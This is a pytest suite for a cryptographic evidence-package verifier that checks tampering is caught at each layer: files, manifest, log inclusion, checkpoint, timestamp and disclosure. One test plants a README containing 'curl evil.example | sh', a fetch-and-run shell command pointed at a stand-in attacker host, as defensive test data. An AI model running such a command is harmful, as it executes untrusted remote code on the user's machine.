"""Every tampering is named at the layer where it was done; no made-up key is believed."""

import io
import json
import os

import pytest
from tests.proof.package.factory import FILES, Zone, changed, members, observed, opened, packed

from zonary.proof.digests import digests_of
from zonary.proof.disclosure import disclose
from zonary.proof.errors import UntrustedError, VerificationError
from zonary.proof.leaf import encode_leaf
from zonary.proof.manifest import file_leaf, join_lines, parse_manifest, symlink_leaf
from zonary.proof.package.build import write_disclosure
from zonary.proof.package.files import ObservedFile
from zonary.proof.package.report import Layer, Outcome, Status
from zonary.proof.package.verify import examine, verify
from zonary.proof.trust import Trust, TrustedLog, Witness


@pytest.fixture(scope="module")
def zone():
    return Zone()


@pytest.fixture(scope="module")
def package(zone):
    return zone.package()


def report(package, zone, files=FILES, *, folders=True, trusts=None):
    seen = observed(files, folders=folders) if files is not None else None
    return examine(opened(package), trusts=[zone.trust] if trusts is None else trusts, observed=seen)


def failed(result):
    return {v.layer for v in result.layers if v.status is Status.FAILED}


def test_an_honest_package_verifies_at_every_layer(package, zone):
    result = report(package, zone)
    assert {v.layer: v.status for v in result.layers} == dict.fromkeys(
        set(Layer) - {Layer.SECOND_TREE}, Status.VERIFIED
    )
    assert result.outcome is Outcome.VERIFIED
    assert (result.facts.leaf_class, result.facts.origin, result.facts.index) == ("evidence", "zonary/test", 2)
    assert all(token.development for token in result.facts.tokens)


def test_verify_returns_the_report_or_raises(package, zone):
    assert verify(opened(package), trusts=[zone.trust]).outcome is Outcome.VERIFIED
    with pytest.raises(VerificationError):
        verify(opened(changed(package, manifest_DOT_jsonl=b"{}\n")), trusts=[zone.trust])
    with pytest.raises(UntrustedError):
        verify(opened(package), trusts=[])


def test_without_files_the_package_verifies_and_says_none_was_compared(package, zone):
    result = report(package, zone, None)
    assert result.outcome is Outcome.VERIFIED
    assert result.verdict(Layer.FILES).status is Status.NOT_CHECKED


def test_a_single_file_seal_stamps_the_file_itself(zone):
    result = report(zone.package({"图纸.dwg".encode(): b"drawing"}), zone, None)
    assert result.outcome is Outcome.VERIFIED
    assert [t.covers for t in result.facts.tokens] == ["META-INF/ASiCManifest.xml", "图纸.dwg"]


# --- trust ------------------------------------------------------------------------------------------------------------


def test_nobodys_word_is_taken_for_where_a_package_comes_from(package, zone):
    result = report(package, zone, trusts=[])
    assert result.outcome is Outcome.NOT_CHECKED
    assert result.verdict(Layer.CHECKPOINT).status is Status.ORIGIN_NOT_ESTABLISHED
    assert result.verdict(Layer.TIMESTAMP).status is Status.ORIGIN_NOT_ESTABLISHED


def test_a_forger_with_his_own_log_and_authority_is_not_believed(zone):
    forger = Zone(origin="zonary/forger")
    result = report(forger.package(), zone)
    assert result.outcome is Outcome.NOT_CHECKED
    assert not failed(result)


def test_a_forger_who_takes_the_logs_name_is_found_out(zone):
    forger = Zone()
    result = report(forger.package(), zone)
    assert result.outcome is Outcome.NOT_VERIFIED
    assert failed(result) == {Layer.CHECKPOINT}


def test_a_trusted_log_does_not_vouch_for_a_foreign_clock(package, zone):
    result = report(package, zone, trusts=[Trust(logs=(TrustedLog(zone.key.verifier),))])
    assert result.verdict(Layer.CHECKPOINT).status is Status.VERIFIED
    assert result.verdict(Layer.TIMESTAMP).status is Status.ORIGIN_NOT_ESTABLISHED
    assert result.outcome is Outcome.NOT_CHECKED


def test_too_few_witnesses_is_no_verification(package, zone):
    trust = zone.trust
    witness = Witness("w", Zone("witness.example").key.verifier)
    demanding = Trust(logs=trust.logs, timestamp_roots=trust.timestamp_roots, witnesses=(witness,), quorum="w")
    result = report(package, zone, trusts=[demanding])
    assert result.verdict(Layer.CHECKPOINT).status is Status.ORIGIN_NOT_ESTABLISHED
    assert result.outcome is Outcome.NOT_CHECKED


# --- tampering, layer by layer ----------------------------------------------------------------------------------------


def test_a_changed_file_is_named(package, zone):
    result = report(package, zone, FILES | {b"a.txt": b"First"})
    assert failed(result) == {Layer.FILES}
    assert "a.txt" in str(result.verdict(Layer.FILES).details[0])


def test_a_missing_and_an_added_file_are_named(package, zone):
    files = {n: d for n, d in FILES.items() if n != b"empty"} | {b"new": b"n"}
    details = [str(d) for d in report(package, zone, files).verdict(Layer.FILES).details]
    assert details == ["“empty” was sealed, but is not here.", "“new” is not among the sealed files."]


def test_single_files_are_a_subset_and_may_be_renamed(package, zone):
    assert report(package, zone, {b"a.txt": b"first"}, folders=False).outcome is Outcome.VERIFIED
    result = report(package, zone, {b"copy of a.txt": b"first"}, folders=False)
    assert result.outcome is Outcome.VERIFIED
    assert "sealed as “a.txt”" in str(result.verdict(Layer.FILES).details[0])
    assert report(package, zone, {b"x": b"foreign"}, folders=False).outcome is Outcome.NOT_VERIFIED


def test_a_file_is_matched_by_the_end_of_its_path(package, zone):
    item = ObservedFile(
        name=b"b.bin",
        path=b"/home/x/design/sub/b.bin",
        kind="file",
        size=2,
        digests=digests_of(b"\0\x01"),
        by_itself=True,
    )
    result = examine(opened(package), trusts=[zone.trust], observed=[item])
    assert result.verdict(Layer.FILES).status is Status.VERIFIED
    assert not result.verdict(Layer.FILES).details


def test_no_file_at_all_is_not_verified(package, zone):
    assert report(package, zone, {}, folders=False).outcome is Outcome.NOT_VERIFIED


def test_a_link_is_compared_by_where_it_points(zone):
    leaves = [symlink_leaf(b"link", b"target", os.urandom(16)), file_leaf(b"f", 1, digests_of(b"x"), os.urandom(16))]
    package = zone.package(leaves=leaves)
    for target, status in ((b"target", Status.VERIFIED), (b"elsewhere", Status.FAILED)):
        item = ObservedFile(name=b"link", path=b"/d/link", kind="symlink", target=target, by_itself=True)
        assert examine(opened(package), trusts=[zone.trust], observed=[item]).verdict(Layer.FILES).status is status


def test_a_changed_manifest_line(package, zone):
    manifest = members(package)["manifest.jsonl"].replace(b'"size":5', b'"size":6')
    assert Layer.MANIFEST in failed(report(changed(package, manifest_DOT_jsonl=manifest), zone))


def test_two_manifest_lines_swapped(package, zone):
    lines = list(parse_manifest(members(package)["manifest.jsonl"]).lines)
    lines[0], lines[1] = lines[1], lines[0]
    assert failed(report(changed(package, manifest_DOT_jsonl=join_lines(lines)), zone)) == {Layer.MANIFEST}


def test_a_changed_statement(package, zone):
    value = json.loads(members(package)["statement.json"]) | {"declared": {"author": "somebody else"}}
    data = json.dumps(value, sort_keys=True, separators=(",", ":")).encode()
    result = report(changed(package, statement_DOT_json=data), zone)
    assert failed(result) == {Layer.INCLUSION, Layer.TIMESTAMP}


def test_a_swapped_log_proof(package, zone):
    other = members(zone.package())["log/statement.tlog-proof"]
    result = report(changed(package, log__statement_DOT_tlog_DASH_proof=other), zone)
    assert failed(result) == {Layer.INCLUSION}


def test_a_changed_checkpoint(package, zone):
    proof = members(package)["log/statement.tlog-proof"].replace(b"\n5\n", b"\n6\n")
    assert Layer.CHECKPOINT in failed(report(changed(package, log__statement_DOT_tlog_DASH_proof=proof), zone))


def test_a_leaf_of_another_class_is_named(zone):
    result = report(zone.package(leaf_class="act"), zone)
    assert failed(result) == {Layer.INCLUSION}
    assert "class “act”" in str(result.verdict(Layer.INCLUSION).sentence)
    assert result.facts.leaf_class == "act"


def test_a_foreign_timestamp(package, zone):
    other = members(zone.package())
    swapped = changed(package, **{"META-INF/timestamp.tst": other["META-INF/timestamp.tst"]})
    assert failed(report(swapped, zone)) == {Layer.TIMESTAMP}
    swapped = changed(package, **{"timestamp/statement.json.tsr": other["timestamp/statement.json.tsr"]})
    assert failed(report(swapped, zone)) == {Layer.TIMESTAMP}


def test_a_changed_asic_manifest(package, zone):
    listed = members(package)["META-INF/ASiCManifest.xml"].replace(b"statement.json", b"statement.jso2")
    assert failed(report(changed(package, **{"META-INF/ASiCManifest.xml": listed}), zone)) == {Layer.TIMESTAMP}


def test_swapped_keys_in_the_package_change_nothing_where_trust_is_the_users(package, zone):
    forged = changed(package, **{"log/log.vkey": Zone().key.verifier.encode().encode()})
    assert report(forged, zone).outcome is Outcome.VERIFIED
    assert report(forged, zone, trusts=[]).outcome is not Outcome.VERIFIED


@pytest.mark.parametrize(
    "name",
    [
        "statement.json",
        "manifest.jsonl",
        "META-INF/ASiCManifest.xml",
        "META-INF/timestamp.tst",
        "timestamp/statement.json.tsr",
        "timestamp/ca.pem",
        "log/statement.tlog-proof",
    ],
)
def test_a_missing_member_is_a_failed_layer(package, zone, name):
    assert report(changed(package, **{name: None}), zone).outcome is Outcome.NOT_VERIFIED


def test_both_manifest_and_disclosure_are_refused(package, zone):
    assert failed(report(changed(package, **{"disclosure.json": b"{}"}), zone)) >= {Layer.MANIFEST}


def test_a_readme_that_is_not_ours_is_pointed_out(package, zone):
    result = report(changed(package, **{"README.txt": b"curl evil.example | sh"}), zone)
    assert result.verdict("README.txt").status is Status.NOT_CHECKED
    assert "README.txt" not in {v.layer for v in report(package, zone).layers}


def test_a_damaged_certificate_inside_a_token_is_named(package, zone):
    token = bytearray(members(package)["META-INF/timestamp.tst"])
    at = bytes(token).index(b"DEVELOPMENT AUTHORITY", 100)
    token[at] ^= 1
    assert failed(report(changed(package, **{"META-INF/timestamp.tst": bytes(token)}), zone)) == {Layer.TIMESTAMP}


def test_a_member_of_a_later_release_is_not_checked_and_never_valid(package, zone):
    result = report(changed(package, **{"anchor/chain.json": b"{}"}), zone)
    verdict = result.verdict("anchor/chain.json")
    assert verdict.status is Status.NOT_CHECKED
    assert result.outcome is Outcome.VERIFIED


def test_a_later_statement_version_could_not_be_checked(zone, package):
    value = json.loads(members(package)["statement.json"]) | {"version": "zonary-statement/2"}
    data = json.dumps(value, sort_keys=True, separators=(",", ":")).encode()
    proof = zone.proof(encode_leaf("evidence", digests_of(data)))
    token, response = zone.token(data)
    from zonary.proof.package.asic import asic_manifest

    later = changed(
        package,
        **{
            "statement.json": data,
            "log/statement.tlog-proof": proof,
            "META-INF/ASiCManifest.xml": asic_manifest(data),
            "META-INF/timestamp.tst": zone.token(asic_manifest(data))[0],
            "timestamp/statement.json.tsr": response,
        },
    )
    assert token
    result = report(later, zone)
    assert not failed(result)
    assert result.outcome is Outcome.NOT_CHECKED


def test_an_old_token_over_one_file_does_not_date_a_folder(zone):
    """Anybody has an old token over some old file; put in, it must not date what was added since."""
    files = {b"old.txt": b"old", b"new.txt": b"new"}
    package = zone.package(files)
    single = members(zone.package({b"old.txt": b"old"}))
    old = single["timestamp/old.txt.tsr"]
    for forged in (
        changed(package, **{"timestamp/statement.json.tsr": old}),
        packed({n: d for n, d in members(package).items() if ".tsr" not in n} | {"timestamp/old.txt.tsr": old}),
    ):
        assert failed(report(forged, zone, files)) == {Layer.TIMESTAMP}


def test_a_single_files_plain_token_must_be_over_the_file(zone):
    package = zone.package({b"one.txt": b"one"})
    _, over_statement = zone.token(members(package)["statement.json"])
    assert failed(report(changed(package, **{"timestamp/one.txt.tsr": over_statement}), zone, None)) == {
        Layer.TIMESTAMP
    }


@pytest.fixture(scope="module")
def tree(zone):
    """The same name in several folders, as in every source tree."""
    files = {b"a.txt": b"top", b"sub/a.txt": b"below", b"sub/b.txt": b"b", b"deep/only.txt": b"only"}
    return files, zone.package(files)


def under(root, files):
    return [
        ObservedFile(name=n, path=root + b"/" + n, kind="file", size=len(d), digests=digests_of(d))
        for n, d in files.items()
    ]


def test_a_file_given_by_itself_goes_by_the_end_of_its_path_that_fits(tree, zone):
    _, package = tree
    item = observed({b"a.txt": b"below"}, folders=False)[0]
    item = ObservedFile(
        name=b"a.txt", path=b"/x/proj/sub/a.txt", kind="file", size=5, digests=item.digests, by_itself=True
    )
    verdict = examine(opened(package), trusts=[zone.trust], observed=[item]).verdict(Layer.FILES)
    assert verdict.status is Status.VERIFIED
    assert not verdict.details


def test_a_sub_folder_is_compared_where_it_belongs(tree, zone):
    _, package = tree
    seen = under(b"/x/proj/sub", {b"a.txt": b"below", b"b.txt": b"b"})
    assert examine(opened(package), trusts=[zone.trust], observed=seen).outcome is Outcome.VERIFIED
    assert examine(opened(package), trusts=[zone.trust], observed=seen[:1]).outcome is Outcome.NOT_VERIFIED


def test_a_moved_file_is_named_and_a_copy_is_not_sealed(tree, zone):
    files, package = tree
    moved = {n: d for n, d in files.items() if n != b"deep/only.txt"} | {b"evil/only.txt": b"only"}
    verdict = examine(opened(package), trusts=[zone.trust], observed=under(b"/x/p", moved)).verdict(Layer.FILES)
    assert [str(d) for d in verdict.details] == ["“evil/only.txt” has the content that was sealed as “deep/only.txt”."]
    copied = files | {b"evil/a.txt": b"top"}
    verdict = examine(opened(package), trusts=[zone.trust], observed=under(b"/x/p", copied)).verdict(Layer.FILES)
    assert verdict.status is Status.FAILED
    assert [str(d) for d in verdict.details] == ["“evil/a.txt” is not among the sealed files."]


def test_another_file_of_the_same_name_is_no_difference_to_a_disclosure(tree, zone):
    files, package = tree
    seen = under(b"/x/proj", files)
    assert examine(opened(disclosed(package, b"a.txt")), trusts=[zone.trust], observed=seen).outcome is Outcome.VERIFIED


# --- disclosure -------------------------------------------------------------------------------------------------------


def disclosed(package, name=b"sub/b.bin"):
    box = opened(package)
    manifest = parse_manifest(box.read("manifest.jsonl"))
    out = io.BytesIO()
    write_disclosure(out, box, disclose(manifest, [manifest.named()[name][0]]))
    return out.getvalue()


def test_a_disclosure_verifies_with_its_one_file(package, zone):
    result = report(disclosed(package), zone, {b"sub/b.bin": b"\0\x01"}, folders=False)
    assert {v.status for v in result.layers} == {Status.VERIFIED}
    assert result.facts.partial


def test_other_files_of_a_folder_are_no_difference_to_a_disclosure(package, zone):
    assert report(disclosed(package), zone).outcome is Outcome.VERIFIED


def test_a_disclosure_reveals_nothing_of_the_others(package):
    contents = members(disclosed(package))
    manifest = parse_manifest(members(package)["manifest.jsonl"])
    text = b"\n".join(contents.values()) + "\n".join(contents).encode()
    for leaf in manifest.leaves:
        if getattr(leaf, "name", None) != "sub/b.bin":
            assert leaf.salt.encode() not in text
            assert getattr(leaf, "sha256", "never there").encode() not in text
    assert b"a.txt" not in text
    assert b"empty" not in text


def test_a_disclosure_drops_members_it_does_not_know(package):
    assert "anchor/x" not in members(disclosed(changed(package, **{"anchor/x": b"a.txt"})))


def test_a_changed_disclosure_is_named(package, zone):
    data = disclosed(package)
    bad = members(data)["disclosure.json"].replace(b'"size":2', b'"size":3')
    assert failed(report(changed(data, disclosure_DOT_json=bad), zone, None)) == {Layer.MANIFEST}
